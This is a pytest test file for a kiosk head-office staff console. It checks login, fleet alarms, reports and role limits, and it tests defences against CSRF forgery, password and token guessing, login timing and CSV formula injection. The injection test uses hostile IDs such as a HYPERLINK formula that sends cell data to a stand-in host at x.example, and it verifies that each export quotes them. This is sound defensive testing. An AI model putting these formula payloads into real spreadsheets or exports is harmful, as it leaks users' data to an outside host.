"""Head office's staff console in a real headless browser (Debian's chromium and its driver)
against the real server process: login, the fleet, an alarm when a kiosk's note validator
jams, a transaction looked up by its id, the reports; and the refusals: a wrong password, a
form without its CSRF token, an operator doing an admin's change: each clear, nothing changed,
audited. Screenshots go to $CONSOLE_SHOTS (or the test's folder)."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import requests
from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.expected_conditions import staleness_of
from selenium.webdriver.support.select import Select
from selenium.webdriver.support.wait import WebDriverWait
from sqlalchemy import select

from kiosk.adapters.head_office import Syncer
from kiosk.domain.money import Money
from sync.store.tables import audit, open_db, ref_debts, ref_keys
from tests.conftest import ROOT, HeadOffice
from tests.test_cctalk_kiosk import cash_rig

NOW = datetime.now(UTC)
PASSWORDS = {"anna": "anna-operator-pw", "ada": "ada-admin-password", "otto": "otto-auditor-pw"}
ROLES = {"anna": "operator", "ada": "admin", "otto": "auditor"}
pytestmark = pytest.mark.skipif(
    not Path("/usr/bin/chromedriver").exists(),
    reason="chromium-driver is installed by the README's command",
)


@pytest.fixture
def browser() -> Iterator[webdriver.Chrome]:
    opts = webdriver.ChromeOptions()
    opts.binary_location = "/usr/bin/chromium"
    for arg in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--window-size=1280,900",
        "--disable-dev-shm-usage",
    ):
        opts.add_argument(arg)
    driver = webdriver.Chrome(options=opts, service=Service("/usr/bin/chromedriver"))
    driver.implicitly_wait(2)
    yield driver
    driver.quit()


def staff_add(db: str, name: str) -> None:
    done = subprocess.run([sys.executable, "-m", "sync.admin", "--db", db, "staff", "add", name,
                           "--role", ROLES[name]], input=PASSWORDS[name] + "\n",
                          capture_output=True, text=True, cwd=ROOT, timeout=60)  # fmt: skip
    assert done.returncode == 0 and f"{name}: {ROLES[name]}" in done.stdout, done.stderr


def fleet_with_a_jam(office: HeadOffice, tmp_path: Path) -> str:
    """A kiosk on its simulated devices: a customer pays 20.00 in a note, then the note
    validator jams on the next note; the kiosk's journal is synced to head office. Returns the
    payment's transaction id."""
    with cash_rig(tmp_path) as rig:
        rig.start_payment(Money(5000, "EUR"))
        assert rig.notes.insert("EU0020A")
        rig.wait(lambda: rig.view().paid == Money(2000, "EUR"), "the 20.00 note credited")
        rig.notes.jam_next_stack = True
        assert rig.notes.insert("EU0010A")
        rig.wait(lambda: "notes" in {str(d) for d in rig.view().faults}, "the jam")
        txid = rig.view().txid
        assert txid is not None
        journal = rig.kiosk.journal
        assert Syncer(journal, office.client()).round(NOW).backlog == 0
    return txid


def login(browser: webdriver.Chrome, office: HeadOffice, name: str, password: str) -> None:
    browser.get(f"{office.url}/console/login")
    browser.find_element(By.ID, "name").send_keys(name)
    browser.find_element(By.ID, "password").send_keys(password)
    submit(browser, By.ID, "login")


def submit(browser: webdriver.Chrome, by: str, what: str) -> None:
    """Click a form's button and wait for the page the post leads to (the old one gone)."""
    old = browser.find_element(By.TAG_NAME, "html")
    browser.find_element(by, what).click()
    WebDriverWait(browser, 10).until(staleness_of(old))


def session_post(browser: webdriver.Chrome, url: str, path: str, data: dict[str, str]) -> Any:
    """A form posted with the browser's session and the page's CSRF token (as a page edited
    by hand would post it)."""
    cookie = browser.get_cookie("ho_session")
    assert cookie is not None
    csrf = browser.find_element(By.CSS_SELECTOR, "input[name=csrf]").get_attribute("value")
    return requests.post(
        f"{url}{path}", data={**data, "csrf": csrf or ""}, timeout=10,
        cookies={"ho_session": cookie["value"]}, allow_redirects=False,
    )  # fmt: skip


def shot(browser: webdriver.Chrome, tmp_path: Path, name: str) -> Path:
    folder = Path(os.environ.get("CONSOLE_SHOTS") or tmp_path)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.png"
    assert browser.save_screenshot(str(path)) and path.stat().st_size > 10_000
    return path


def audited(db: str) -> list[tuple[str, str, str]]:
    engine = open_db(db)
    try:
        with engine.connect() as conn:
            return [(r.who, r.action, r.detail) for r in conn.execute(
                select(audit).order_by(audit.c.id))]  # fmt: skip
    finally:
        engine.dispose()


def key_and_debt(db: str) -> tuple[str, int | None]:
    engine = open_db(db)
    try:
        with engine.connect() as conn:
            status = conn.execute(select(ref_keys.c.status)
                                  .where(ref_keys.c.serial == "K1")).scalar_one()  # fmt: skip
            debt = conn.execute(select(ref_debts.c.amount)).scalar()
            return status, debt
    finally:
        engine.dispose()


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_the_console_in_a_browser(
    office: HeadOffice, browser: webdriver.Chrome, tmp_path: Path
) -> None:
    for name in PASSWORDS:
        staff_add(office.db, name)
    office.admin("key", "K1", "--status", "active", "--account", "4711")
    txid = fleet_with_a_jam(office, tmp_path)

    login(browser, office, "anna", "not her password")
    assert "Name or password is wrong." in browser.find_element(By.ID, "error").text
    assert ("anna", "login_failed") in [(w, a) for w, a, _ in audited(office.db)]

    other = office.client("OTHER-01")  # a kiosk whose uploads fail: it says what it holds
    other.tell(5, (NOW - timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
    other.reference()
    login(browser, office, "anna", PASSWORDS["anna"])
    row = browser.find_element(By.ID, "kiosk-DEMO-01").text
    assert "needs a technician" in row and "jammed" in row and "20.00 EUR" in row
    assert "nothing" in row  # all delivered
    assert "5 entries since" in browser.find_element(By.ID, "kiosk-OTHER-01").text
    shot(browser, tmp_path, "fleet")

    browser.get(f"{office.url}/console/alarms")
    alarms = browser.find_element(By.ID, "alarms").text
    assert "notes fault" in alarms and "jammed" in alarms
    shot(browser, tmp_path, "alarms")

    browser.get(f"{office.url}/console/tx?id={txid}")
    entries = browser.find_element(By.ID, "entries").text
    for kind in ("tx_opened", "cash_in", "fault"):  # the jam, against the payment's note
        assert kind in entries
    shot(browser, tmp_path, "transaction")

    browser.get(f"{office.url}/console/reports")
    assert browser.find_elements(By.CSS_SELECTOR, "#per-day rect")
    assert "20.00 EUR" in browser.find_element(By.ID, "money").text
    shot(browser, tmp_path, "reports")

    # the operator blocks the key: changed and audited
    browser.get(f"{office.url}/console/key?q=K1")
    browser.find_element(By.CSS_SELECTOR, "#keys select[name=status]").send_keys("blocked")
    Select(browser.find_element(By.CSS_SELECTOR, "#keys select[name=reason]")).select_by_value(
        "lost"
    )
    browser.find_element(By.CSS_SELECTOR, "#keys input[name=note]").send_keys("phoned in, Mon")
    submit(browser, By.CSS_SELECTOR, "#keys button")
    assert key_and_debt(office.db) == ("blocked", None)
    assert any(w == "anna" and a == "key" and "active -> blocked (lost; phoned in, Mon)" in d
               for w, a, d in audited(office.db))  # fmt: skip
    # a reason that is not a code (a page edited by hand): refused, nothing changed
    refused = session_post(browser, office.url, "/console/key",
                           {"serial": "K1", "status": "active", "reason": "verloren"})  # fmt: skip
    assert refused.status_code == 422 and "is not one of lost, stolen" in refused.text
    assert key_and_debt(office.db) == ("blocked", None)
    # ... but may not set a debt: refused, nothing changed, audited
    browser.find_element(By.CSS_SELECTOR, "input[name=amount]").send_keys("12.50")
    submit(browser, By.XPATH, "//button[text()='Set the debt']")
    assert "admin only" in browser.page_source
    assert key_and_debt(office.db) == ("blocked", None)
    assert any(w == "anna" and a == "refused" and "debt" in d for w, a, d in audited(office.db))

    # a form posted without the session's CSRF token (another site's page posting it)
    cookie = browser.get_cookie("ho_session")
    assert cookie is not None and cookie["httpOnly"] and cookie.get("sameSite") == "Strict"
    forged = requests.post(f"{office.url}/console/key", timeout=10,
                           data={"serial": "K1", "status": "active", "reason": ""},
                           cookies={"ho_session": cookie["value"]})  # fmt: skip
    assert forged.status_code == 403 and "security token" in forged.text
    assert key_and_debt(office.db) == ("blocked", None)
    assert any(a == "refused" and "CSRF" in d for _w, a, d in audited(office.db))

    # the admin sets the debt
    browser.delete_all_cookies()
    login(browser, office, "ada", PASSWORDS["ada"])
    browser.get(f"{office.url}/console/key?q=4711")
    browser.find_element(By.CSS_SELECTOR, "input[name=amount]").send_keys("12.50")
    submit(browser, By.XPATH, "//button[text()='Set the debt']")
    assert browser.find_element(By.ID, "debt").text == "12.50 EUR"
    assert key_and_debt(office.db) == ("blocked", 1250)
    browser.get(f"{office.url}/console/audit")
    shot(browser, tmp_path, "audit")


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_pages_without_a_session_send_to_the_login(office: HeadOffice) -> None:
    for path in ("/console/", "/console/alarms", "/console/tx?id=X", "/console/reports.csv"):
        got = requests.get(f"{office.url}{path}", allow_redirects=False, timeout=10)
        assert got.status_code == 303 and got.headers["location"] == "/console/login", path
    refused = requests.post(f"{office.url}/console/debt", timeout=10,
                            data={"account": "1", "amount": "1.00", "csrf": "x"})  # fmt: skip
    assert refused.status_code == 401


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_guessing_passwords_is_slowed_down_and_audited(office: HeadOffice) -> None:
    staff_add(office.db, "otto")
    url = f"{office.url}/console/login"
    for _ in range(10):
        wrong = requests.post(url, data={"name": "otto", "password": "guess"}, timeout=10)
        assert wrong.status_code == 401 and "Name or password is wrong." in wrong.text
    stopped = requests.post(url, data={"name": "otto", "password": PASSWORDS["otto"]}, timeout=10)
    assert stopped.status_code == 429 and int(stopped.headers["Retry-After"]) > 0
    assert [a for _w, a, _d in audited(office.db)].count("login_failed") == 10


def console_session(office: HeadOffice, name: str) -> requests.Session:
    """A person of the staff logged in over HTTP (no browser: the pages' text is enough)."""
    staff_add(office.db, name)
    s = requests.Session()
    got = s.post(f"{office.url}/console/login", timeout=30,
                 data={"name": name, "password": PASSWORDS[name]})  # fmt: skip
    assert got.status_code == 200 and got.url == f"{office.url}/console/", got.text
    return s


def stored_directly(db: str, rows: list[dict[str, Any]], **kiosk: Any) -> None:
    """Entries written into head office's database by hand (as a release before the time
    check took them), and what DEMO-01 said of its backlog."""
    from sync.store.tables import entries, kiosks

    engine = open_db(db)
    try:
        with engine.begin() as conn:
            conn.execute(entries.insert(), [
                {"txid": None, "key": None, "amount": None, "currency": None, "data": "{}",
                 "prev_hash": "0" * 64, "hash": "0" * 64, **r} for r in rows])  # fmt: skip
            if kiosk:
                conn.execute(kiosks.update().where(kiosks.c.kiosk_id == "DEMO-01").values(**kiosk))
    finally:
        engine.dispose()


END, START = "9999-12-31T23:59:59.999999Z", "0001-01-01T00:00:00.000000Z"


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_times_at_the_ends_of_the_calendar_break_no_page_report_or_export(
    office: HeadOffice,
) -> None:
    """9999-12-31 (a kiosk's clock gone wrong, before head office refused it) and 0001-01-01
    stored: every page, the CSV, the report and the export still answer, showing them."""
    opened = json.dumps({"method": "cash", "contract_account": "4711"})
    stored_directly(office.db, [
        {"kiosk_id": "DEMO-01", "seq": 1, "ts": END, "kind": "tx_opened", "txid": "T-END",
         "key": "K1", "data": opened},
        {"kiosk_id": "DEMO-01", "seq": 2, "ts": END, "kind": "cash_in", "txid": "T-END",
         "key": "K1", "amount": 1000, "currency": "EUR", "data": '{"medium": "note"}'},
        {"kiosk_id": "DEMO-01", "seq": 3, "ts": END, "kind": "tx_closed", "txid": "T-END",
         "key": "K1", "data": '{"outcome": "completed"}'},
        {"kiosk_id": "DEMO-01", "seq": 4, "ts": END, "kind": "fault",
         "data": '{"device": "coin", "text": "jammed"}'},
        {"kiosk_id": "OTHER-01", "seq": 1, "ts": START, "kind": "cash_in", "txid": "T-START",
         "key": "K1", "amount": 200, "currency": "EUR", "data": '{"medium": "coin"}'},
    ], backlog=5, backlog_since=END)  # fmt: skip
    s = console_session(office, "otto")
    for path in ("/console/", "/console/alarms", "/console/reports", "/console/reports.csv",
                 "/console/key?q=K1", "/console/tx?id=T-END", "/console/tx?id=T-START"):
        got = s.get(f"{office.url}{path}", timeout=30)
        assert got.status_code == 200, (path, got.text[-300:])
        assert "9999-12-31" in got.text or "0001-01-01" in got.text, path
    report = office.admin("report")
    assert "9999-12-31" in report and "0001-01-01" in report
    export = office.admin("export", "payments", "--since", "2026-01-01", "--until", "9999-12-31")
    assert "T-END" in export and "9999-12-31 23:59:59" in export and "T-START" not in export
    early = office.admin("export", "payments", "--since", "0001-01-01", "--format", "json")
    assert [p["txid"] for p in json.loads(early)] == ["T-START"]


def backlog_said(db: str) -> tuple[int | None, str | None]:
    from sync.store.tables import kiosks

    engine = open_db(db)
    try:
        with engine.connect() as conn:
            row = conn.execute(select(kiosks.c.backlog, kiosks.c.backlog_since)
                               .where(kiosks.c.kiosk_id == "OTHER-01")).one()  # fmt: skip
            return row.backlog, row.backlog_since
    finally:
        engine.dispose()


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_a_backlog_time_that_is_not_a_journal_time_is_ignored(office: HeadOffice) -> None:
    """What a kiosk says of its oldest undelivered entry is stored only when it is a real UTC
    time in the journal's format; anything else is ignored and the fleet page stays up."""
    s = console_session(office, "otto")
    other = office.client("OTHER-01")
    for bad in ("x" * 32, "2026-11-21 09:00:00.000000+00:00", "2026-02-30T09:00:00.000000Z",
                "2026-11-21T25:00:00.000000Z", "2026-11-21T09:00:00Z", END,
                "1999-12-31T23:00:00.000000Z", "2026-11-21T09:00:00.000000Z<b>"):  # fmt: skip
        other.tell(5, bad)
        other.reference()
        assert backlog_said(office.db) == (5, None), bad
        page = s.get(f"{office.url}/console/", timeout=30)
        assert page.status_code == 200 and "5 entries</span> since never" in page.text, bad
    good = (NOW - timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    other.tell(5, good)
    other.reference()
    assert backlog_said(office.db) == (5, good)
    assert s.get(f"{office.url}/console/", timeout=30).status_code == 200


def test_a_cell_that_could_start_a_formula_is_quoted_and_numbers_stay() -> None:
    from sync.billing.sheet import cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert cell(f"{start}1+2") == f"'{start}1+2"
        assert cell(f"{start}1+2", number=True) == f"'{start}1+2"  # not a number: quoted too
    assert cell("K-1") == "K-1" and cell(None) is None and cell(-1500) == -1500
    assert cell("-12.50", number=True) == "-12.50" and cell("-12.50") == "'-12.50"
    import csv
    import io

    from sync.billing.sheet import write_csv

    buf = io.StringIO()
    write_csv(buf, ["txid", "amount"], [["\rK2", -1500], ['a,"b"', 7]], numbers=["amount"])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [
        ["txid", "amount"], ["'\rK2", "-1500"], ['a,"b"', "7"]
    ]  # fmt: skip


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_hostile_text_from_a_kiosk_starts_no_formula_in_any_csv(
    office: HeadOffice, tmp_path: Path
) -> None:
    """A kiosk id, transaction id, key serial and contract account that a spreadsheet would
    run as formulas reach the payments export (the admin tool's and the billing system's) and
    the console's download quoted; the amounts stay numbers, a negative one too."""
    from kiosk.domain.events import Kind, Record
    from kiosk.ledger.journal import Journal
    from sync.wire.client import SyncClient
    from sync.billing.sheet import FORMULA_START

    kiosk = '=HYPERLINK("http://x.example/?"&A1)'
    token = _registered_before_ids_were_checked(office, kiosk)
    j = Journal(tmp_path / "journal.sqlite", kiosk)
    tx, key, account = "+SUM(1,2)", "@K1", "-4711+1"
    day1 = datetime(2026, 11, 21, 9, 0, tzinfo=UTC)
    j.append([Record(Kind.TX_OPENED, tx, key, None, {"method": "card", "contract_account": account}),
              Record(Kind.CARD_APPROVED, tx, key, Money(1500, "EUR"), {"receipt_no": 1}),
              Record(Kind.TX_CLOSED, tx, key, None, {"outcome": "completed"})], day1)  # fmt: skip
    j.append([Record(Kind.TX_OPENED, "\tT2", "\rK2", None, {"method": "cash"}),
              Record(Kind.CASH_IN, "\tT2", "\rK2", Money(500, "EUR"), {"medium": "coin"}),
              Record(Kind.TX_CLOSED, "\tT2", "\rK2", None, {"outcome": "completed"})],
             day1)  # fmt: skip
    # the next day the card payment is given back: that day's money is negative
    j.append([Record(Kind.CARD_REVERSED, tx, key, Money(1500, "EUR"), {})],
             day1 + timedelta(days=1))  # fmt: skip
    j.append([Record(Kind.CASH_UNATTRIBUTED, None, None, Money(200, "EUR"), {"medium": "coin"})],
             day1 + timedelta(days=1))  # fmt: skip
    client = SyncClient(office.url, token, kiosk, timeout=(1.0, 5.0))
    assert Syncer(j, client).round(day1).backlog == 0

    def checked(text: str, numbers: set[str]) -> list[dict[str, str]]:
        import csv
        import io

        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows
        for row in rows:
            for name, value in row.items():
                if name in numbers:
                    assert re.fullmatch(r"-?\d+", value), (name, value)
                else:
                    assert not value.startswith(FORMULA_START), (name, value)
        return rows

    days = ("--since", "2026-11-21", "--until", "2026-11-22")
    amounts = {f"{a}_minor" for a in ("paid", "fee", "fee_net", "fee_vat", "debt", "credit")}
    paid = checked(office.admin("export", "payments", *days), amounts)
    assert {r["kiosk"] for r in paid} == {"'" + kiosk}
    assert {r["txid"] for r in paid} >= {"'+SUM(1,2)", "'\tT2"}
    assert {r["key"] for r in paid} >= {"'@K1", "'\rK2"}
    assert "'-4711+1" in {r["contract_account"] for r in paid}
    billing = office.admin("token", "billing", "--role", "billing")
    got = requests.get(f"{office.url}/v1/billing/payments", timeout=30,
                       params={"since": "2026-11-21", "until": "2026-11-22"},
                       headers={"Authorization": f"Bearer {billing}"})  # fmt: skip
    assert got.status_code == 200 and checked(got.text, amounts) == paid
    s = console_session(office, "otto")
    money = checked(s.get(f"{office.url}/console/reports.csv", timeout=30).text, {"amount_minor"})
    assert ("2026-11-22", "'" + kiosk, "card", "-1500") in {
        (r["day"], r["kiosk"], r["method"], r["amount_minor"]) for r in money
    }
    assert "'" + kiosk in office.admin("report")


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_failed_logins_and_failed_tokens_are_counted_apart(office: HeadOffice) -> None:
    """Ten wrong console passwords from an address lock out that address's logins, not the
    kiosks behind it; ten unknown tokens lock out unknown tokens, not the staff's login, and
    never a right token."""
    staff_add(office.db, "otto")
    login_url, ref = f"{office.url}/console/login", f"{office.url}/v1/reference"
    right = {"Authorization": f"Bearer {office.tokens['DEMO-01']}"}
    for _ in range(10):
        wrong = requests.post(login_url, data={"name": "otto", "password": "guess"}, timeout=10)
        assert wrong.status_code == 401
    stopped = requests.post(login_url, timeout=10,
                            data={"name": "otto", "password": PASSWORDS["otto"]})  # fmt: skip
    assert stopped.status_code == 429 and "too many failed logins" in stopped.text
    assert requests.get(ref, headers=right, timeout=10).status_code == 200
    unknown = requests.get(ref, headers={"Authorization": "Bearer guess"}, timeout=10)
    assert unknown.status_code == 401  # the logins' count is not the tokens'
    for n in range(9):
        guess = {"Authorization": f"Bearer guess-{n}"}
        assert requests.get(ref, headers=guess, timeout=10).status_code == 401
    over = requests.get(ref, headers={"Authorization": "Bearer guess-x"}, timeout=10)
    assert over.status_code == 429 and "too many failed tokens" in over.text
    assert requests.get(ref, headers=right, timeout=10).status_code == 200
    assert [a for _w, a, _d in audited(office.db)].count("login_failed") == 10


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_failed_tokens_do_not_lock_out_the_staff(office: HeadOffice) -> None:
    staff_add(office.db, "otto")
    ref = f"{office.url}/v1/reference"
    for n in range(11):
        requests.get(ref, headers={"Authorization": f"Bearer guess-{n}"}, timeout=10)
    s = requests.Session()
    got = s.post(f"{office.url}/console/login", timeout=30,
                 data={"name": "otto", "password": PASSWORDS["otto"]})  # fmt: skip
    assert got.status_code == 200 and got.url == f"{office.url}/console/"


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_a_login_takes_as_long_for_an_unknown_name_as_for_a_known_one(office: HeadOffice) -> None:
    """No telling staff names by the time a refusal takes: an unknown name's password is
    verified against a hash of no one's (the medians within a factor of two)."""
    import statistics
    import time

    staff_add(office.db, "otto")
    url = f"{office.url}/console/login"

    def took(name: str, password: str, status: int) -> float:
        started = time.perf_counter()
        got = requests.post(url, data={"name": name, "password": password}, timeout=30,
                            allow_redirects=False)  # fmt: skip
        assert got.status_code == status
        return time.perf_counter() - started

    known: list[float] = []
    unknown: list[float] = []
    for i in range(7):  # seven refusals: under the ten that lock the address out
        known.append(took("otto", PASSWORDS["otto"], 303))
        unknown.append(took(f"nobody-{i}", "guess-guess", 401))
    ratio = statistics.median(known) / statistics.median(unknown)
    assert 0.5 <= ratio <= 2, (known, unknown)


def _registered_before_ids_were_checked(office: HeadOffice, kiosk: str) -> str:
    """A kiosk whose id `register` refuses now (it takes only what a site file may name)
    but an older head office registered: its token."""
    import secrets

    from sqlalchemy import insert

    from sync.store.tables import kiosks, open_db, token_digest
    from tests.test_billing import admin

    assert "is not 2 to 31 capitals" in admin(office.db, "register", kiosk).stderr
    token = secrets.token_urlsafe(24)
    engine = open_db(office.db)
    try:
        with engine.begin() as conn:
            conn.execute(insert(kiosks).values(kiosk_id=kiosk, token_sha256=token_digest(token)))
    finally:
        engine.dispose()
    return token
